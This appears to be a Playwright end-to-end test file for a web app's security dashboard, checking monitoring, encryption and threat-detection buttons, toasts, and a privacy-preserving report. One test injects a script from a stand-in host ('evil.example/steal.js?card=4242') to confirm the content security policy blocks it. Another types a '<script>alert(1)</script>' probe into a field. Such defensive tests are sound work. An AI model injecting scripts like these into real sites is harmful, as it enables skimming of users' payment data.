// @module-tag never-again
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { SecurityReport } from '#app/features/running/security-report.ts'
import { shareInstance } from '#test/support/instance.ts'
import { eventually, looksWrong, openContext, openQuietContext, shareChromium, toasts } from '../visitor.ts'

shareChromium()
const shared = shareInstance({ RATE_LIMIT_SCALE: '1000' })

const panel = '[data-island*="/security-panel."]'
const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true })
const reportIn = async (page: Page) =>
  SecurityReport.parse(JSON.parse(await page.getByRole('textbox', { name: 'Security report' }).inputValue()))

/** The dashboard, once its script has started. */
async function started(page: Page) {
  await page.goto('/security-dashboard')
  await page.locator(`${panel}[data-started]`).waitFor()
  await eventually(() => button(page, 'Copy').isVisible()).toBe(true)
}

describe('The security dashboard', () => {
  // security.http.test.ts does the same without JavaScript, and tests the report.
  it('tests, watches and reports in place, by keyboard and for everyone', async () => {
    const { url } = await shared()
    const page = await (await openContext(url)).newPage()
    await started(page)
    expect(await looksWrong(page, 'main')).toEqual([])
    expect((await reportIn(page)).page).toEqual({ monitoring: 'inactive', encryption: 'not tested', events: [] })
    // Press two buttons in quick succession: neither press is lost.
    await button(page, 'Test Encryption').press('Enter')
    await button(page, 'Test Threat Detection').press('Enter')
    await eventually(() => toasts(page).first().textContent()).toContain('Detected 5/5 potential threats.')
    expect(await toasts(page).nth(1).textContent()).toContain('Encryption Test Successful')
    // Its stored values are gone.
    expect(await page.evaluate(() => Object.keys(sessionStorage))).toEqual([])
    await button(page, 'Start Monitoring').press('Enter')
    await button(page, 'Monitoring Active').waitFor()
    await page.getByLabel('A field to test it with').fill('My boiler is off <script>alert(1)</script>')
    await eventually(() => page.locator('[data-kind=input]').allTextContents()).toHaveLength(1)
    const report = await reportIn(page)
    expect(report.page).toMatchObject({ monitoring: 'active', encryption: 'passed', events: [{ kind: 'input' }] })
    // The report contains nothing that was typed.
    expect(JSON.stringify(report)).not.toContain('My boiler')
  })

  it('shows what the browser refuses, and a script from elsewhere that is put in', async () => {
    const { url } = await shared()
    // The refusal is logged as a console error, which is expected here.
    const page = await (await openQuietContext(url)).newPage()
    await started(page)
    await button(page, 'Start Monitoring').click()
    await button(page, 'Monitoring Active').waitFor()
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/steal.js?card=4242'
      document.body.append(script)
    })
    await eventually(() => page.locator('[data-kind=script]').allTextContents()).toHaveLength(1)
    expect(await page.locator('[data-kind=script]').textContent()).toContain('A script was added to the page: https://evil.example.')
    await eventually(() => page.locator('[data-kind=policy]').textContent()).toContain('blocked https://evil.example under script-src-elem')
    expect(JSON.stringify(await reportIn(page))).not.toContain('4242')
  })
})
